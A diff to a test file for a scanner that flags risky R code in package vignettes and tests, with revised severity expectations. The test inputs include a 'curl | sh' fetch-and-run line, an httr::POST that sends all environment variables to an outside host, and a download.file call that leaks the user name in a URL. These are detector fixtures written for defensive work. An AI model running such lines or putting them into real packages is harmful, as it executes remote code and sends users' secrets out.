@@ -30,8 +30,11 @@ describe("code of a vignette", () => {
   const markdown = (code: string) =>
     `---\ntitle: A\n---\n\n\`\`\`{r, include=FALSE}\n${code}\n\`\`\`\n\nsystem("text")\n`;
 
-  test("may reach what it likes, but not run what it fetches or hides", async () => {
-    expect(await signalsIn("vignettes/a.Rmd", markdown('system("make")'))).toEqual(["notice process system 6"]);
+  test("may connect, but neither start programs nor run what it fetches or hides", async () => {
+    expect(await signalsIn("vignettes/a.Rmd", markdown('system("make")'))).toEqual(["warning process system 6"]);
+    expect(await signalsIn("vignettes/a.Rmd", markdown("download.file(a, b)"))).toEqual([
+      "notice network download.file 6",
+    ]);
     expect(await signalsIn("vignettes/a.Rmd", markdown('system("curl -s https://a.example/x | sh")'))).toContain(
       "warning decoded-code system 6",
     );
@@ -46,9 +49,17 @@ describe("code of a vignette", () => {
   });
 });
 
-test("tests may read all variables or connect, but not both", async () => {
+test("tests may ask about their machine or connect, but not both", async () => {
   const both = 'httr::POST("https://a.example", body = as.list(Sys.getenv()))\n';
   expect(await signalsIn("tests/a.R", both)).toContain("warning secret-environment Sys.getenv() 1");
+  const info = 'download.file(paste0("https://a.example/?", Sys.info()[["user"]]), b)\n';
+  expect(await signalsIn("tests/a.R", info)).toContain("warning environment Sys.info 1");
+  expect(await signalsIn("R/a.R", `f <- function(b) ${info}`)).toContain("notice environment Sys.info 1");
+  expect(await signalsIn("tests/a.R", "x <- Sys.info()\n")).toEqual(["notice environment Sys.info 1"]);
+  expect(await signalsIn("tests/a.R", 'system("wget x")\nsystem("make")\n')).toEqual([
+    "warning process system 1",
+    "notice process system 2",
+  ]);
   expect(await signalsIn("tests/a.R", "x <- Sys.getenv()\n")).toEqual(["notice secret-environment Sys.getenv() 1"]);
 });
 
